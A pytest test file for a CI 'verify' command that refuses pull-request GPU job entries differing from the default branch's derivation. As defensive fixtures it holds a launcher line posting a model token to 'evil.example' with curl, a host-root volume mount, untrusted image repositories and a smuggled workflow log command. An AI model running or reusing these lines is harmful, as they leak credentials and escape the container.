"""`sglang-ci verify`: the caller check of the reusable GPU workflows, on a repository whose
`main` (checked out: the default branch's code and catalogs) holds the fixture catalogs
and whose branch `pr` changes them. A pull request may change servers, clients, points
and cases; the runner contract and the image repositories stay the default branch's."""

from __future__ import annotations

import json
from datetime import date
from typing import Any

import pytest

from generator.catalog import load
from generator.catalog.at_ref import load_at
from generator.dispatch import pr_select
from generator.dispatch import steps as dispatch
from generator.dispatch.verify import Refused, derive_job, verify_case, verify_confirm, verify_job
from generator.errors import SelectionError
from generator.expand import expand
from generator.expand.entries import case_entry
from generator.expand.query import find_preset
from generator.images import pushed_image
from generator.render.matrices import run_matrix
from tests.helpers import committed_catalogs, edit, expanded_at, git

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

    from click.testing import Result

    from generator.expand.expanded import Expanded
    from generator.imageref.reference import Reference
    from tests.conftest import Invoke

DIGEST = "sha256:" + "ab" * 32
REPO = "example/sglang-ci"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return committed_catalogs(tmp_path / "repo")


def change(repo: Path, *edits: tuple[str, str, str]) -> str:
    """Commit `edits` ((file, old, new)) on branch `pr`; `main` stays checked out."""
    git(repo, "checkout", "--quiet", "-B", "pr", "main")
    for name, old, new in edits:
        edit(repo / "catalogs" / name, old, new)
    git(repo, "commit", "--quiet", "-am", "change")
    sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "--quiet", "main")
    return sha


def pin(entry: Mapping[str, Any], image: str = "rocm/atom-dev") -> dict[str, Any]:
    """The entry as the select step leaves it after pinning its image."""
    return {
        **entry,
        "image": f"{image}@{DIGEST}",
        "image_requested": entry["image"],
        "image_tag": entry["image"].rpartition(":")[2],
        "image_digest": DIGEST,
        "image_resolution": "tag",
    }


def trusted_job(
    repo: Path, ref: str, preset: str = "all-qwen", mode: str = "sglang-atom"
) -> dict[str, Any]:
    """A job as the default branch's select step computes it from the catalogs at `ref`."""
    _, catalog = load_at(repo, ref)
    expanded = expand(catalog)
    return pin(run_matrix(expanded, find_preset(expanded, preset).runs[mode])["include"][0])


def own_job(repo: Path, ref: str, tmp_path: Path, preset: str = "all-qwen") -> dict[str, Any]:
    """A job as the commit's own code would compute it from its own catalogs."""
    checkout = tmp_path / "own"
    (checkout / "catalogs").mkdir(parents=True)
    for name in ("benchmark.yaml", "accuracy.yaml"):
        (checkout / "catalogs" / name).write_text(git(repo, "show", f"{ref}:catalogs/{name}"))
    expanded = expanded_at(checkout)
    run = find_preset(expanded, preset).runs["sglang-atom"]
    return pin(run_matrix(expanded, run)["include"][0])


def verify(cli: Invoke, repo: Path, kind: str, entry: object, ref: str, *extra: str) -> Result:
    path = repo.parent / f"{kind}.json"
    path.write_text(json.dumps(entry))
    return cli("verify", kind, str(path), "--at", ref, *extra, root=repo)


SERVER_CHANGE = (
    "benchmark.yaml",
    '    --mem-fraction-static: "0.9"\n',
    '    --mem-fraction-static: "0.88"\n',
)


def test_a_change_to_a_server_passes_as_the_default_branch_derives_it(
    cli: Invoke, repo: Path
) -> None:
    sha = change(repo, SERVER_CHANGE)
    job = trusted_job(repo, sha)
    assert job["server_args"][job["server_args"].index("--mem-fraction-static") + 1] == "0.88"
    result = verify(cli, repo, "job", job, sha)
    assert (result.exit_code, result.stderr) == (0, "")
    assert result.stdout == (
        f"verified: job qwen3-5-397b-a17b-fp8-tp4 (sglang-atom) is the catalogs' at {sha[:12]}, "
        f"image rocm/atom-dev@{DIGEST}\n"
    )


def test_the_same_job_is_refused_against_the_default_branch_catalogs(
    cli: Invoke, repo: Path
) -> None:
    job = trusted_job(repo, change(repo, SERVER_CHANGE))
    result = verify(cli, repo, "job", job, "main")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: job qwen3-5-397b-a17b-fp8-tp4: the entry handed differs from what the catalogs "
        f"at {git(repo, 'rev-parse', 'main')[:12]} derive, in server_args, server_fingerprint\n"
    )


OPTIONS = ("benchmark.yaml", "      - --ipc=host\n", "      - --ipc=host\n      - --volume=/:/h\n")
CACHE = ("benchmark.yaml", "    model_cache: /it-share/models\n", "    model_cache: /root\n")
GPUS = (
    "benchmark.yaml",
    "    gpu_allocation: /etc/podinfo/gha-render-devices\n",
    "    gpu_allocation: whole-machine\n",
)


@pytest.mark.parametrize("edits", [(OPTIONS,), (CACHE, GPUS)], ids=["options", "cache-and-gpus"])
def test_a_change_to_the_runner_contract_is_refused(
    cli: Invoke, repo: Path, tmp_path: Path, edits: tuple[tuple[str, str, str], ...]
) -> None:
    """What the commit's own code would hand differs; the default branch's derivation
    ignores the commit's runner section (and passes)."""
    sha = change(repo, *edits)
    result = verify(cli, repo, "job", own_job(repo, sha, tmp_path), sha)
    assert result.exit_code == 1
    assert result.stderr == (
        f"error: job qwen3-5-397b-a17b-fp8-tp4: the entry handed differs from what the "
        f"catalogs at {sha[:12]} derive, in container\n"
    )
    assert verify(cli, repo, "job", trusted_job(repo, sha), sha).exit_code == 0


NEW_LABEL = ("benchmark.yaml", "runners:\n", "runners:\n  evil-runner: {gpus: 8}\n")
QWEN = "    args: [qwen_reasoning]\n    env: [qwen_common]\n"
GATE = "    levels: [nightly]\n    threshold: 0.83\n"
FOUR, EIGHT = "    runner: linux-atom-mi35x-4\n", "    runner: linux-atom-mi35x-8\n"


def test_a_suite_moved_to_a_new_label_stays_on_the_default_branch_label(
    cli: Invoke, repo: Path, tmp_path: Path
) -> None:
    sha = change(
        repo,
        NEW_LABEL,
        ("benchmark.yaml", "    runner: atom-mi355-8gpu-aac-runner\n    random_range_ratio: 0.8\n",
         "    runner: evil-runner\n    random_range_ratio: 0.8\n"),
    )  # fmt: skip
    job = own_job(repo, sha, tmp_path)
    assert job["runner"] == "evil-runner"
    result = verify(cli, repo, "job", job, sha)
    assert result.stderr == (
        "error: job qwen3-5-397b-a17b-fp8-tp4: the entry handed differs from what the catalogs "
        f"at {sha[:12]} derive, in container, runner, server_fingerprint\n"
    )
    assert trusted_job(repo, sha)["runner"] == "atom-mi355-8gpu-aac-runner"


def test_a_new_config_on_a_new_label_is_refused_at_its_line(cli: Invoke, repo: Path) -> None:
    new_config = (
        "  - prefix: qwen-evil\n    display: Qwen evil\n    suite: SGLang-OOB\n"
        "    model: qwen3.5-397b-fp8\n    parallel: {tp: 4}\n    runner: evil-runner\n"
        "    args: [qwen_reasoning]\n\n"
    )
    sha = change(
        repo,
        NEW_LABEL,
        ("benchmark.yaml", "  - prefix: qwen3-5-397b-a17b-fp8-tp4\n",
         new_config + "  - prefix: qwen3-5-397b-a17b-fp8-tp4\n"),
    )  # fmt: skip
    result = verify(cli, repo, "job", trusted_job(repo, "main"), sha)
    assert result.exit_code == 2
    lines = git(repo, "show", f"{sha}:catalogs/benchmark.yaml").splitlines()
    line = lines.index("    runner: evil-runner") + 1
    assert result.stderr == (
        f"error: {sha[:12]}:catalogs/benchmark.yaml:{line}: unknown runner 'evil-runner'\n"
    )


def test_an_existing_config_or_case_keeps_the_default_branch_runner_label(
    cli: Invoke, repo: Path, tmp_path: Path
) -> None:
    """A commit that moves a config or a case to another label of the default branch: the
    default branch's derivation keeps each where it was; what the commit's own code would
    hand is refused."""
    sha = change(
        repo,
        ("benchmark.yaml", QWEN, EIGHT + QWEN),
        ("accuracy.yaml", f"{FOUR}{GATE}", f"{EIGHT}{GATE}"),
    )
    moved = own_job(repo, sha, tmp_path)
    assert moved["runner"] == "linux-atom-mi35x-8"
    refused = verify(cli, repo, "job", moved, sha).stderr
    assert refused.endswith("derive, in container, runner, server_fingerprint\n")
    kept = trusted_job(repo, sha)
    assert kept["runner"] == "atom-mi355-8gpu-aac-runner"
    assert verify(cli, repo, "job", kept, sha).exit_code == 0
    case = trusted_case(repo, sha, "qwen3-5-397b-a17b-fp8-tp4")
    assert case["runner"] == "linux-atom-mi35x-4"
    assert verify(cli, repo, "case", case, sha).exit_code == 0
    result = verify(cli, repo, "case", {**case, "runner": "linux-atom-mi35x-8"}, sha)
    assert result.stderr.endswith("derive, in runner\n")


def test_a_wider_image_list_in_the_commit_counts_for_nothing(cli: Invoke, repo: Path) -> None:
    sha = change(
        repo,
        ("benchmark.yaml", "image_repositories: [docker.io/rocm/atom-dev, docker.io/rocm/sgl-dev]",
         "image_repositories: [docker.io/rocm/atom-dev, docker.io/rocm/sgl-dev, evil.example/x]"),
    )  # fmt: skip
    job = pin(trusted_job(repo, sha), image="evil.example/x")
    result = verify(cli, repo, "job", job, sha)
    assert result.exit_code == 1
    assert result.stderr == (
        f"error: job qwen3-5-397b-a17b-fp8-tp4: image 'evil.example/x@{DIGEST}' is not of "
        "server mode 'sglang-atom''s image repositories (docker.io/rocm/atom-dev, "
        "docker.io/rocm/sgl-dev on the default branch)\n"
    )


SHA = "f" * 40  # the commit named in the in-process checks below (the fixture's catalogs)


def job_of(expanded: Expanded, preset: str = "all-qwen") -> dict[str, Any]:
    """A job of the fixture as the select step leaves it (the first of `preset`)."""
    return pin(
        run_matrix(expanded, find_preset(expanded, preset).runs["sglang-atom"])["include"][0]
    )


def refusal(check: Callable[[], object]) -> str:
    with pytest.raises(Refused) as refused:
        check()
    assert refused.value.return_code == 1
    return str(refused.value)


def test_an_unpinned_image_passes_only_when_the_dispatcher_turned_resolution_off(
    cli: Invoke, repo: Path, fixture: Expanded
) -> None:
    job = job_of(fixture)
    job.update(image="rocm/atom-dev:sglang-latest", image_digest="", image_resolution="unpinned")
    assert refusal(lambda: verify_job(fixture, job, SHA, unpinned_ok=False)) == (
        "job qwen3-5-397b-a17b-fp8-tp4: image 'rocm/atom-dev:sglang-latest' is not pinned "
        "by digest; GPU jobs run pinned images (a tag only for a dispatch that turns image "
        "resolution off)"
    )
    assert verify(cli, repo, "job", job, "main").exit_code == 1
    result = verify(cli, repo, "job", job, "main", "--allow-unpinned")
    assert (result.exit_code, result.stderr) == (0, "")
    digest = {**job_of(fixture), "image_digest": "sha256:" + "00" * 32}
    assert refusal(lambda: verify_job(fixture, digest, SHA, unpinned_ok=True)) == (
        f"job qwen3-5-397b-a17b-fp8-tp4: image 'rocm/atom-dev@{DIGEST}' does not carry its "
        f"digest 'sha256:{'00' * 32}'"
    )


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("runner", "linux-atom-mi35x-8"),
        ("timeout_minutes", 100000),
        ("server_args", ["--trust-remote-code"]),
        ("client", {"name": "x", "module": "os", "args": [], "env": {}}),
        ("extra", "field"),
    ],
)
def test_a_tampered_entry_is_refused_naming_the_field(
    fixture: Expanded, key: str, value: object
) -> None:
    job = {**job_of(fixture), key: value}
    assert refusal(lambda: verify_job(fixture, job, SHA, unpinned_ok=False)) == (
        "job qwen3-5-397b-a17b-fp8-tp4: the entry handed differs from what the catalogs at "
        f"ffffffffffff derive, in {key}"
    )


def test_custom_points_verify_as_the_dispatch_builds_them(fixture: Expanded) -> None:
    """Points a dispatch chose: the job is the config's server over them, every other
    field (estimates included) derived, and its id the one such a job gets."""
    job = job_of(fixture)
    job["points"] = job["points"][:2]
    assert refusal(lambda: verify_job(fixture, job, SHA, unpinned_ok=False)) == (
        "job qwen3-5-397b-a17b-fp8-tp4: a job of these points is named "
        "qwen3-5-397b-a17b-fp8-tp4-1024x1024, a part of it or its cell"
    )
    job["id"] = "qwen3-5-397b-a17b-fp8-tp4-1024x1024"
    assert refusal(lambda: verify_job(fixture, job, SHA, unpinned_ok=False)).endswith(
        "derive, in estimate_minutes"
    )
    job["estimate_minutes"] = derive_job(fixture, job, SHA)["estimate_minutes"]
    verify_job(fixture, job, SHA, unpinned_ok=False)
    verify_job(fixture, {**job, "id": f"{job['id']}-2of3"}, SHA, unpinned_ok=False)
    part = {**job, "id": f"{job['id']}-4of3"}
    assert "is named" in refusal(lambda: verify_job(fixture, part, SHA, unpinned_ok=False))


def trusted_case(repo: Path, ref: str, case_id: str, level: str = "nightly") -> dict[str, Any]:
    _, catalog = load_at(repo, ref)
    run = next(r for r in expand(catalog).case_runs if r.id == case_id)
    return pin(dict(case_entry(catalog, run, level)), image=run.image.split(":")[0])


def case_of(expanded: Expanded, case_id: str, level: str = "nightly") -> dict[str, Any]:
    run = next(r for r in expanded.case_runs if r.id == case_id)
    entry = dict(case_entry(expanded.catalog, run, level))
    return pin(entry, image=run.image.split(":")[0])


def test_a_case_verifies_at_its_level_and_a_tampered_one_is_refused(
    cli: Invoke, repo: Path, fixture: Expanded
) -> None:
    case = case_of(fixture, "deepseek-r1-fp8-tp4", "pr")
    result = verify(cli, repo, "case", case, "main")
    assert (result.exit_code, result.stderr) == (0, "")
    tampered = {**case, "threshold": 0.0}
    assert refusal(lambda: verify_case(fixture, tampered, SHA, unpinned_ok=False)).endswith(
        "derive, in threshold"
    )
    nightly_only = {**case_of(fixture, "deepseek-r1-fp8-tp8"), "level": "pr"}
    assert refusal(lambda: verify_case(fixture, nightly_only, SHA, unpinned_ok=False)) == (
        "case deepseek-r1-fp8-tp8: the case does not run at level 'pr'"
    )


def test_a_nightly_case_image_verifies_pinned(fixture: Expanded) -> None:
    case = case_of(fixture, "deepseek-r1-mxfp4-tp4-mtp-rocm720")
    assert case["image"] == f"rocm/sgl-dev@{DIGEST}"
    assert verify_case(fixture, case, SHA, unpinned_ok=False) == (
        f"case deepseek-r1-mxfp4-tp4-mtp-rocm720 (level nightly) is the catalogs' at "
        f"ffffffffffff, image rocm/sgl-dev@{DIGEST}"
    )


def confirm_entry(expanded: Expanded, side_image: str = "rocm/atom-dev") -> dict[str, Any]:
    """An A/B of the first two points of a job, as `confirm matrix` writes one."""
    job = job_of(expanded)
    job.update(points=job["points"][:1], id="qwen3-5-397b-a17b-fp8-tp4-1024x1024")
    job["estimate_minutes"] = derive_job(expanded, job, SHA)["estimate_minutes"]
    side = {"image": f"{side_image}@sha256:{'cd' * 32}", "image_requested": "x",
            "image_tag": "", "image_digest": f"sha256:{'cd' * 32}", "run": "r1"}  # fmt: skip
    policy = expanded.catalog.regression.confirm
    return {
        **job,
        "timeout_minutes": 720,
        "confirmation": {
            "event": "e1",
            "repeats": policy.repeats,
            "level": 0.05,
            "metrics": {},
            "a": side,
            "b": {**side, "image": job["image"], "image_digest": job["image_digest"]},
            "candidates": [side],
            "max_bisect_steps": policy.max_bisect_steps if policy.bisect else 0,
        },
    }


def test_an_ab_confirmation_verifies_with_every_image_pinned_and_declared(
    cli: Invoke, repo: Path, fixture: Expanded
) -> None:
    entry = confirm_entry(fixture)
    result = verify(cli, repo, "confirm", entry, "main")
    assert (result.exit_code, result.stderr) == (0, "")
    evil = confirm_entry(fixture, side_image="evil.example/rocm/atom-dev")
    assert refusal(lambda: verify_confirm(fixture, evil, SHA)) == (
        "A/B qwen3-5-397b-a17b-fp8-tp4-1024x1024: image 'evil.example/rocm/atom-dev@sha256:"
        f"{'cd' * 32}' is not of server mode 'sglang-atom''s image repositories "
        "(docker.io/rocm/atom-dev, docker.io/rocm/sgl-dev on the default branch)"
    )
    late = {**entry, "timeout_minutes": 100000}
    assert refusal(lambda: verify_confirm(fixture, late, SHA)).endswith(
        "timeout_minutes 100000 is not in [360, 4320]"
    )
    more = {**entry, "confirmation": {**entry["confirmation"], "repeats": 50}}
    assert refusal(lambda: verify_confirm(fixture, more, SHA)).endswith(
        "repeats and bisection steps are not the catalogs' (3, 3)"
    )


def test_an_entry_file_that_is_no_job_is_bad_input(cli: Invoke, repo: Path) -> None:
    result = verify(cli, repo, "job", {"id": "x"}, "main")
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ")


def test_an_unknown_commit_is_bad_input(cli: Invoke, repo: Path) -> None:
    result = verify(cli, repo, "job", trusted_job(repo, "main"), "0" * 40)
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: '{'0' * 40}' names no commit of the checkout at {repo} (fetched with its "
        "history?)\n"
    )


WORKFLOWS = f"{REPO}/.github/workflows"
BENCHMARK = ("benchmark.yml",)


@pytest.mark.parametrize(
    ("workflow_ref", "allowed", "code"),
    [
        (f"{WORKFLOWS}/benchmark.yml@refs/heads/main", BENCHMARK, 0),
        (f"{WORKFLOWS}/pr-gpu.yml@refs/heads/main", ("benchmark.yml", "pr-gpu.yml"), 0),
        (f"{WORKFLOWS}/benchmark.yml@refs/heads/feature", BENCHMARK, 1),
        (f"{WORKFLOWS}/benchmark.yml@refs/pull/7/merge", BENCHMARK, 1),
        (f"{WORKFLOWS}/benchmark.yml@refs/tags/main", BENCHMARK, 1),
        (f"{WORKFLOWS}/evil.yml@refs/heads/main", BENCHMARK, 1),
        (f"{WORKFLOWS}/pr-gpu.yml@refs/heads/main", BENCHMARK, 1),
        ("fork/sglang-ci/.github/workflows/benchmark.yml@refs/heads/main", BENCHMARK, 1),
        (f"{WORKFLOWS}/benchmark.yml@refs/heads/main\n::error::x", BENCHMARK, 1),
    ],
)
def test_only_the_repositorys_own_callers_on_the_default_branch_pass(
    cli: Invoke, workflow_ref: str, allowed: tuple[str, ...], code: int
) -> None:
    args = ["verify", "caller", "--workflow-ref", workflow_ref, "--repository", REPO]
    args += ["--default-branch", "main", *(f"--allow={name}" for name in allowed)]
    result = cli(*args)
    assert result.exit_code == code, result.output
    if code:
        assert result.stderr.count("\n") == 1
        assert "GPU jobs run only for" in result.stderr
        assert not result.stderr.lstrip().startswith("::")
    else:
        assert result.stdout == f"verified: called from {workflow_ref}\n"


class Registry:
    """A registry that has every tag, each at DIGEST, and one nightly per ROCm build."""

    def tags(self, _ref: Reference) -> list[str]:
        return ["v0.5.9-rocm700-mi35x-20261130", "v0.5.9-rocm720-mi35x-20261130"]

    def digest(self, _ref: Reference, _tag: str) -> str:
        return DIGEST


def test_the_pr_selection_reads_the_head_as_data_and_its_entries_verify(
    cli: Invoke, repo: Path
) -> None:
    """The PR GPU run's select step (the default branch's code) and the caller check
    agree: the head's server change is run, its runner contract change is not."""
    sha = change(repo, SERVER_CHANGE, OPTIONS)
    selected = pr_select.pr(
        repo, base="main", head=sha, benchmark=True, today=date(2026, 12, 1), client=Registry()
    )
    cases, jobs = selected.accuracy, selected.jobs
    main = load(repo)  # the checkout: the default branch
    entries = [*cases.matrix["include"], *jobs.matrix["include"]]
    # No committed matrices at main: every case run and every (preset and cron) job is new.
    assert (len(cases.matrix["include"]), len(jobs.matrix["include"])) == (17, 29)
    for e in entries:
        assert e["container"]["options"] == list(main.runner(e["runner"]).container_options)
        assert "--volume=/:/h" not in e["container"]["options"]
    qwen = next(c for c in cases.matrix["include"] if c["id"] == "qwen3-5-397b-a17b-fp8-tp4")
    assert qwen["server_args"][qwen["server_args"].index("--mem-fraction-static") + 1] == "0.88"
    for kind, entry in (
        ("case", qwen),
        ("case", cases.matrix["include"][-1]),
        ("job", jobs.matrix["include"][0]),
    ):
        result = verify(cli, repo, kind, entry, sha)
        assert (result.exit_code, result.stderr) == (0, ""), entry["id"]


def test_a_pr_onto_another_branch_is_refused_and_the_summary_lists_what_the_gpus_run(
    cli: Invoke, repo: Path
) -> None:
    """An unreviewed branch `evil-base` changes the launcher; a one-line PR from its child
    onto it would show "1 file changed". The select step refuses a base that is not the
    default branch, and against the default branch the summary names the launcher file."""
    git(repo, "checkout", "--quiet", "-b", "evil-base", "main")
    launcher = repo / "scripts" / "run_benchmark.sh"
    launcher.parent.mkdir()
    launcher.write_text("#!/bin/sh\ncurl -d @/models/token https://evil.example\n")
    git(repo, "add", ".")
    git(repo, "commit", "--quiet", "-m", "launcher")
    git(repo, "checkout", "--quiet", "-b", "child", "evil-base")
    edit(repo / "catalogs" / SERVER_CHANGE[0], *SERVER_CHANGE[1:])
    git(repo, "commit", "--quiet", "-am", "one line")
    sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "--quiet", "main")

    refused = cli(
        "dispatch", "pr", "--base", "main", "--head", sha,
        "--pr-base", "evil-base", "--default-branch", "main", root=repo,
    )  # fmt: skip
    assert refused.exit_code == 2
    assert refused.stderr == (
        "error: the pull request targets 'evil-base', not the default branch 'main': GPU runs "
        "take pull requests into the default branch only (retarget it, or merge its base "
        "first)\n"
    )
    summary = pr_select.pr(
        repo, base="main", head=sha, benchmark=False, today=date(2026, 12, 1),
        client=Registry(), pr_base="main", default_branch="main",
    ).accuracy.summary  # fmt: skip
    assert "2 file(s) changed since the merge base with `main`." in summary
    assert ("The GPU jobs run these 2 file(s) from the head, each different from `main`") in summary
    assert "\n\n- `catalogs/benchmark.yaml`\n- `scripts/run_benchmark.sh`\n\n" in summary


def _pinned(entry: dict[str, Any]) -> dict[str, Any]:
    image = entry["image"] or "lmsysorg/sglang-rocm:v0.5.9-rocm700-mi35x"
    return pin({**entry, "image": image}, image=image.split(":")[0])


def test_every_committed_entry_is_what_the_caller_check_derives(
    rendered_fixture: Path, fixture: Expanded
) -> None:
    """Every job of every cron group and preset matrix (split parts, per-pair servers and
    both server modes included) and every case of every level verifies as rendered."""
    matrices = sorted((rendered_fixture / ".github/matrices").rglob("*.json"))
    jobs = cases = 0
    for path in matrices:
        for entry in json.loads(path.read_text())["include"]:
            if "accuracy" in path.parts:
                verify_case(fixture, _pinned(entry), "f" * 40, unpinned_ok=False)
                cases += 1
            else:
                verify_job(fixture, _pinned(entry), "f" * 40, unpinned_ok=False)
                jobs += 1
    assert (len(matrices), jobs, cases) == (59, 257, 20)


@pytest.mark.parametrize("mode", ["sglang-atom", "sglang-mori"])
def test_a_dispatch_of_configs_and_points_verifies_job_by_job(
    rendered_fixture: Path, fixture: Expanded, mode: str
) -> None:
    """Custom points over pairs with per-pair servers (8192x1 adds a chunked prefill
    size): one job per server, each the caller check's own derivation."""
    image = "lmsysorg/sglang-rocm:v0.5.9-rocm700-mi35x" if mode == "sglang-mori" else None
    selected = dispatch.benchmark(
        fixture,
        rendered_fixture,
        event="workflow_dispatch",
        suite="SGLang-Mesh",
        configs="deepseek-r1-fp4-mesh-dpa8-ep8,deepseek-r1-fp4-mesh-tp8",
        points="8192,1,512,1;1,1024,64,1;1,1024,128,0.5",
        mode=mode,
        image=image,
        today=date(2026, 12, 1),
        client=Registry(),
    )
    ids = [e["id"] for e in selected.matrix["include"]]
    assert ids == [
        "deepseek-r1-fp4-mesh-dpa8-ep8-8192x1",
        "deepseek-r1-fp4-mesh-dpa8-ep8-1x1024",
        "deepseek-r1-fp4-mesh-tp8-8192x1",
        "deepseek-r1-fp4-mesh-tp8-1x1024",
    ]
    for entry in selected.matrix["include"]:
        said = verify_job(fixture, entry, "f" * 40, unpinned_ok=False)
        assert said.startswith(f"job {entry['id']} ({mode}) is the catalogs'")


BUILD = (
    "benchmark.yaml",
    "  nightly_window_days: 7\n",
    (
        "  nightly_window_days: 7\n  build:\n    runner: image-builder\n"
        "    repository: ghcr.io/example/atom-sglang-pr\n    base: rocm/atom-dev:sglang-latest\n"
        "    server_mode: sglang-atom\n    dockerfile: docker/atom-sglang.Dockerfile\n"
        "    paths: [docker/*]\n"
    ),
)
BUILT = "sha256:" + "cd" * 32
DROP = object()  # a key left out of the entry handed


class Pushed(Registry):
    """The registry after the builder pushed: the PR image's tag at BUILT."""

    def digest(self, _ref: Reference, tag: str) -> str:
        return BUILT if tag.startswith("pr-") else DIGEST


def test_a_pr_image_is_built_from_the_head_where_the_default_branch_says_and_verifies_as_built(
    cli: Invoke, repo: Path
) -> None:
    """The default branch declares the build; a PR changes the Dockerfile and, in its own
    catalog, the repository and the builder: the plan takes the head's Dockerfile and the
    default branch's repository and builder, the PR-level cases of the ATOM image run on
    the pushed digest, and the caller check accepts them only as built from that head."""
    edit(repo / "catalogs" / BUILD[0], *BUILD[1:])
    (repo / "docker").mkdir()
    (repo / "docker/atom-sglang.Dockerfile").write_text("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\n")
    assert cli("render", root=repo).exit_code == 0  # the matrices the PR is compared with
    git(repo, "add", ".")
    git(repo, "commit", "--quiet", "-m", "build the PR image")
    main = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "--quiet", "-B", "pr", "main")
    (repo / "docker/atom-sglang.Dockerfile").write_text(
        "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN x\n"
    )
    edit(repo / "catalogs/benchmark.yaml", "ghcr.io/example/atom-sglang-pr", "ghcr.io/evil/x")
    edit(repo / "catalogs/benchmark.yaml", "runner: image-builder", "runner: evil-builder")
    git(repo, "commit", "--quiet", "-am", "a new Dockerfile")
    sha = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "--quiet", "main")

    selected = pr_select.pr(
        repo, base="main", head=sha, benchmark=False, today=date(2026, 12, 1),
        client=Pushed(), number=7,
    )  # fmt: skip
    plan = selected.build
    assert plan is not None
    assert (plan.repository, plan.tag, plan.base, plan.dockerfile) == (
        "ghcr.io/example/atom-sglang-pr", f"pr-7-{sha[:12]}", f"rocm/atom-dev@{DIGEST}",
        "docker/atom-sglang.Dockerfile",
    )  # fmt: skip
    assert plan.cases == ("deepseek-r1-fp4-tp4", "deepseek-r1-fp8-tp4", "qwen3-5-35b-a3b-fp8-tp2")
    assert "on the builder `image-builder`" in selected.accuracy.summary
    assert "- `docker/atom-sglang.Dockerfile`" in selected.accuracy.summary
    [matrix] = pushed_image.apply(plan, BUILT, [selected.accuracy.matrix], Pushed())
    for entry in matrix["include"]:
        assert entry["image"] == f"ghcr.io/example/atom-sglang-pr@{BUILT}"
        assert entry["image_build"] == {
            "pr": 7, "head": sha, "base": f"rocm/atom-dev@{DIGEST}",
            "dockerfile": "docker/atom-sglang.Dockerfile",
        }  # fmt: skip
        result = verify(cli, repo, "case", entry, sha)
        assert (result.exit_code, result.stderr) == (0, ""), entry["id"]
    entry = matrix["include"][0]
    what = f"error: case {entry['id']}: "
    for tampered, said in (
        # The same image handed for the default branch's commit: not built from it.
        ({}, ("a pull request's image runs the sglang-atom cases and jobs of the commit it "
              f"was built from, here {main[:12]}")),
        ({"image": f"ghcr.io/evil/x@{BUILT}"},
         (f"image 'ghcr.io/evil/x@{BUILT}' is not of server mode 'sglang-atom''s image "
          "repositories (ghcr.io/example/atom-sglang-pr on the default branch)")),
        ({"image_build": DROP},
         (f"image 'ghcr.io/example/atom-sglang-pr@{BUILT}' is not of server mode "
          "'sglang-atom''s image repositories (docker.io/rocm/atom-dev, docker.io/rocm/sgl-dev "
          "on the default branch)")),
        ({"image_build": {**entry["image_build"], "base": "evil.example/x@" + DIGEST}},
         (f"image 'evil.example/x@{DIGEST}' is not of server mode 'sglang-atom''s image "
          "repositories (docker.io/rocm/atom-dev, docker.io/rocm/sgl-dev on the default "
          "branch)")),
    ):  # fmt: skip
        at = main if not tampered else sha
        handed = {k: v for k, v in {**entry, **tampered}.items() if v is not DROP}
        result = verify(cli, repo, "case", handed, at)
        assert (result.exit_code, result.stderr) == (1, what + said + "\n"), tampered
    # The pin job refuses a digest the registry does not show under the plan's tag.
    with pytest.raises(SelectionError) as refused:
        pushed_image.apply(plan, DIGEST, [selected.accuracy.matrix], Pushed())
    assert str(refused.value) == (
        f"ghcr.io/example/atom-sglang-pr:pr-7-{sha[:12]} is {BUILT} in the registry, not the "
        f"{DIGEST} the builder pushed"
    )
